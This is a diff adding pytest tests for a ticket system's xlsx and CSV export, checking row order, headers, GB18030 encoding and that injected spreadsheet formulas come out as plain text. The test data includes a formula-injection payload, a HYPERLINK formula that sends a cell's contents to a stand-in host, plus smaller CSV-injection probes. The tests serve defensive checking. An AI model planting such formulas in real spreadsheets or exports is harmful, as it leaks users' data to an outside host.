@@ -150,3 +150,44 @@ def test_several_statuses_and_bad_words(gateway):
     assert unranked.status_code == 422 and "needs q" in unranked.text
     injection = listed(gateway, q="a' | '' & !(b", reporter=reporter)  # tsquery syntax is only text
     assert injection["total"] == 0
+
+
+def test_the_export_holds_the_list_in_its_order(gateway):
+    import io
+
+    import openpyxl
+    reporter = f"export-{uuid.uuid4().hex[:8]}"
+    made = [open_ticket(gateway, reporter, f"导出 {n}", "=HYPERLINK(\"http://x/?leak=\"&A1)")
+            for n in range(7)]
+    gateway.post(f"{TICKETS}/{made[0]['id']}/transitions", headers=ENGINEER,
+                 json={"to": "resolved", "note": "已恢复"})
+    page = listed(gateway, reporter=reporter, sort="created_at", limit=200)
+    r = gateway.get(f"{TICKETS}/export", headers=ENGINEER,
+                    params={"reporter": reporter, "sort": "created_at"})
+    assert r.status_code == 200, r.text
+    assert r.headers["content-type"].startswith("application/vnd.openxmlformats")
+    assert "filename*=UTF-8''%E5%B7%A5%E5%8D%95%E5%AF%BC%E5%87%BA" in r.headers["content-disposition"]
+    sheet = openpyxl.load_workbook(io.BytesIO(r.content)).active
+    rows = list(sheet.iter_rows(values_only=True))
+    assert rows[0][:3] == ("编号", "类型", "状态")
+    assert [row[0] for row in rows[1:]] == numbers(page) and len(rows) == 8
+    assert rows[1][2] == "已解决" and rows[1][13]  # resolved, with its time
+    formula_cells = [c for row in sheet.iter_rows(min_row=2) for c in row if c.data_type == "f"]
+    assert not formula_cells and rows[1][7].startswith("=HYPERLINK")  # text, never a formula
+
+
+def test_the_csv_export_in_gb18030_is_formula_safe(gateway):
+    import csv
+    reporter = f"export-{uuid.uuid4().hex[:8]}"
+    open_ticket(gateway, reporter, "@SUM(1+1) 门禁故障", "-2+3")
+    r = gateway.get(f"{TICKETS}/export", headers=ENGINEER,
+                    params={"reporter": reporter, "format": "csv", "encoding": "gb18030"})
+    assert r.status_code == 200 and r.headers["content-type"] == "text/csv; charset=gb18030"
+    rows = list(csv.reader(r.content.decode("gb18030").splitlines()))
+    assert rows[0][0] == "编号" and len(rows) == 2
+    assert rows[1][6] == "'@SUM(1+1) 门禁故障" and rows[1][7] == "'-2+3"
+    utf8 = gateway.get(f"{TICKETS}/export", headers=ENGINEER,
+                       params={"reporter": reporter, "format": "csv"})
+    assert utf8.content.startswith("\ufeff编号".encode())  # Excel's BOM
+    bad = gateway.get(f"{TICKETS}/export", headers=ENGINEER, params={"format": "pdf"})
+    assert bad.status_code == 422
